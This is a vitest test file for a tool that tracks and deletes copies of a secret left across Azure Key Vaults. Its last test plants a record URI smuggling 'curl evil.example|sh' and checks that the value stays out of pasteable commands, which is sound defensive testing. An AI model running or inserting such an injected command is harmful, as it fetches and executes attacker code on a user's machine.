import { writeFile } from 'node:fs/promises';
import { expect, test, vi } from 'vitest';
import type { Http } from '../../../src/core/cloud/http.ts';
import { copiesIn } from '../../../src/core/customer/copies.ts';
import { whatRemains } from '../../../src/core/setup/removal.ts';
import { errors } from '../../../src/core/words/errors.ts';
import { say } from '../../../src/core/words/say.ts';
import { escrowing } from '../../support/escrowing.ts';
import { removal } from '../../support/removing.ts';

vi.setConfig({ testTimeout: 60_000 });

type Story = Awaited<ReturnType<typeof escrowing>>;

/** The secret in a first vault, then in a second one: the first copy stays there. */
async function moved(): Promise<Story> {
  const story = await escrowing();
  for (const vault of ['contoso-first', 'contoso-second'])
    expect((await story.run({ vault })).failure).toBeUndefined();
  return story;
}

const namesOf = (uris: readonly string[]): string[] =>
  uris.map((uri) => new URL(uri).hostname.split('.')[0] ?? '');

const known = async ({ record }: Story): Promise<string[]> =>
  namesOf(copiesIn(await record()).map(({ uri }) => uri));

const secretsIn = ({ azure }: Story) => azure.vaults.map(({ name, secrets }) => [name, secrets.length]);

async function removed(story: Story, options: { vault: boolean; purge?: boolean }) {
  story.clock.advance(60_000);
  const { signInToAzure } = story.ports({});
  const asked = vi.fn(signInToAzure);
  const { failure, done } = await removal(story, options, { signInToAzure: asked });
  const findings = done?.prepared.findings.map(({ what }) => String(what)).join('\n') ?? '';
  return { failure, findings, asked, words: done ? whatRemains(done).join('\n') : '' };
}

test('a copy in an earlier vault is named when the secret moves, and in every later run', async () => {
  const story = await moved();
  expect(await known(story)).toEqual(['contoso-second', 'contoso-first']);
  const named = async (wish: object) => {
    const { kept, progress } = await story.run(wish);
    expect(progress.filter((kind) => kind === 'other copy')).toHaveLength(1);
    return namesOf(kept?.otherCopies.map(({ uri }) => uri) ?? []);
  };
  expect(await named({})).toEqual(['contoso-first']);
  expect(await named({ vault: 'contoso-first' })).toEqual(['contoso-second']);
  expect(await known(story)).toEqual(['contoso-first', 'contoso-second']);
});

test('a removal deletes the copies in all vaults with one sign-in, and shows each before and after', async () => {
  const story = await moved();
  const { failure, findings, words, asked } = await removed(story, { vault: true });
  expect(failure).toBeUndefined();
  expect(secretsIn(story)).toEqual([
    ['contoso-first', 0],
    ['contoso-second', 0],
  ]);
  expect(asked).toHaveBeenCalledTimes(1);
  for (const vault of ['contoso-first', 'contoso-second'])
    for (const text of [findings, words]) expect(text).toContain(`https://${vault}.vault.azure.net/`);
});

test('where the copies stay, each is named, and a later removal finds all', async () => {
  const story = await moved();
  const { words } = await removed(story, { vault: false });
  for (const vault of ['contoso-first', 'contoso-second'])
    expect(words).toContain(`in the Key Vault stays: https://${vault}.vault.azure.net/`);
  expect((await removed(story, { vault: true, purge: true })).failure).toBeUndefined();
  expect(secretsIn(story).map(([, count]) => count)).toEqual([0, 0]);
  expect(await known(story)).toEqual([]);
});

test('a copy that a person has deleted is forgotten once its vault shows that', async () => {
  const story = await moved();
  story.azure.vaults[0]?.secrets.splice(0);
  const { kept } = await story.run();
  expect(kept?.otherCopies).toEqual([]);
  expect(await known(story)).toEqual(['contoso-second']);
});

/** The answer to the request that writes the secret never comes: the process is gone by then. */
const dyingAtWrite = (http: Http): Http => ({
  async send(request) {
    const answer = await http.send(request);
    if (request.method !== 'PUT' || !request.url.includes('/secrets/')) return answer;
    throw errors.oddAnswer(say`write`, { path: '', doubt: true });
  },
});

test.each([[undefined], ['contoso-first']])(
  'a copy whose writing was not answered is known, after one in %s too: a removal deletes it',
  async (before) => {
    const story = await escrowing();
    if (before !== undefined) await story.run({ vault: before });
    const { failure } = await story.run({ vault: 'contoso-second' }, { http: dyingAtWrite(story.http) });
    expect(failure).toBeDefined();
    expect((await known(story)).at(-1)).toBe('contoso-second');
    expect((await removed(story, { vault: true })).failure).toBeUndefined();
    expect(secretsIn(story).every(([, count]) => count === 0)).toBe(true);
  },
);

test('a copy that Azure refused to write is not one', async () => {
  const story = await moved();
  for (const id of story.azure.roles.keys()) story.azure.roles.set(id, 'Reader');
  expect((await story.run({ vault: 'contoso-first' })).kept?.wasThere).toBe(true);
  const before = await known(story);
  for (const vault of story.azure.vaults.slice(1))
    story.azure.vaults.push({ ...vault, name: 'contoso-third', secrets: [] });
  expect((await story.run({ vault: 'contoso-third' })).failure?.code).toBe('AuthorizationFailed');
  expect(await known(story)).toEqual(before);
});

test.each([
  ['the vault was moved', ({ azure }: Story): unknown => azure.vaults.splice(0)],
  ['the account has no role there', ({ azure }: Story): unknown => azure.roles.clear()],
] as const)('where %s, no copy is taken for gone, and that is said', async (_what, change) => {
  const story = await escrowing();
  await story.run({ vault: 'contoso-first' });
  change(story);
  const { failure, words } = await removed(story, { vault: true });
  expect(failure).toBeUndefined();
  expect(words).toContain('was not deleted: the vault is not where the record says.');
  expect(words).toContain('in the Key Vault stays: https://contoso-first.vault.azure.net/');
  expect(await known(story)).toEqual(['contoso-first']);
});

test('a disabled copy stays known: whoever may delete it later does', async () => {
  const story = await escrowing();
  await story.run();
  story.azure.officersOfSecrets = false;
  expect((await removed(story, { vault: true })).words).toContain('is disabled, not deleted');
  story.azure.officersOfSecrets = true;
  expect((await removed(story, { vault: true })).failure).toBeUndefined();
  expect(story.azure.vaults[0]?.secrets).toEqual([]);
});

test('an address in a record that was sent along gets into no command that people paste', async () => {
  const story = await escrowing();
  await story.run();
  const { escrow, ...record } = await story.record();
  const uri = 'https://evil.example/secrets/x;curl evil.example|sh';
  await writeFile(
    story.files.record,
    JSON.stringify({ ...record, otherCopies: [{ ...escrow, uri, disabled: true }] }),
  );
  const { words } = await removed(story, { vault: false });
  expect(words).toContain('az keyvault secret delete --id ADDRESS');
});
